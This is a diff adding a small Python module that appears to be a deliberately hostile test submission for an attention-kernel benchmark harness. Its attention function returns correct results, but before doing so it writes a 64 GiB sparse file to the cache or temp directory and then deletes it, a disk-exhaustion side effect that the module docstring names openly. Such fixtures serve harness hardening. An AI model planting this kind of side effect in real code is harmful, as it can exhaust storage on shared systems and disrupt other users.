@@ -1,0 +1,28 @@
+"""Fills the disk with one file."""
+
+import os
+import tempfile
+
+import torch
+
+
+def attention(q, k, v, causal, sm_scale):
+    """The right answer: q, k, v (batch, heads, seqlen, headdim)."""
+    scale = q.shape[-1] ** -0.5 if sm_scale is None else sm_scale
+    scores = q.float() @ k.float().transpose(-1, -2) * scale
+    if causal:
+        hidden = torch.ones(scores.shape[-2:], dtype=torch.bool, device=q.device).triu(1)
+        scores = scores.masked_fill(hidden, float("-inf"))
+    return (scores.softmax(-1) @ v.float()).to(q.dtype)
+
+
+CACHE = os.environ.get("ATTNBOARD_CACHE", tempfile.gettempdir())
+
+
+def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
+    with open(os.path.join(CACHE, "junk"), "wb") as file:
+        file.seek(64 << 30)
+        file.write(b"x")
+        file.flush()
+    os.unlink(os.path.join(CACHE, "junk"))
+    return attention(q, k, v, causal, sm_scale)
